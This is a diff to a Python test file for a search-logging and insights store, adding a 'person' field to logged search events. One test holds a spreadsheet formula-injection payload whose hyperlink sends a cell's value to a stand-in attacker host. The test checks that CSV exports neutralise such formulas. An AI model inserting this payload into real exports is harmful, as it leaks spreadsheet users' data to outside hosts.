@@ -76,6 +76,7 @@ def logged(store: Store, people: dict[str, Any]) -> int:
                 query=text,
                 answered=False,
                 user=user,
+                person=f"address-{user}",
                 lang="en",
                 department="hr",
                 ts=now,
@@ -191,7 +192,13 @@ def test_csv_cells_are_text_never_formulas(
     formula = '=hyperlink("http://evil.example/?"&a2,"details")'  # as the log folds it
     for user in "abcd":
         event = SearchEvent(
-            query=formula, answered=False, user=user, lang="en", department="hr", ts=earlier_today()
+            query=formula,
+            answered=False,
+            user=user,
+            person=f"address-{user}",
+            lang="en",
+            department="hr",
+            ts=earlier_today(),
         )
         store.log_search(event)
     gaps = insights_store(store)
@@ -574,7 +581,13 @@ def test_a_topic_s_label_too_few_people_asked_in_the_period_is_not_shown(
     the minimum-people rule. It now shows a question the period may show, or none."""
     for user in "xy":
         store.log_search(
-            SearchEvent(query="printer toner", answered=False, user=user, ts=earlier_today())
+            SearchEvent(
+                query="printer toner",
+                answered=False,
+                user=user,
+                person=f"address-{user}",
+                ts=earlier_today(),
+            )
         )
     gaps = insights_store(store)
     gaps.refresh()
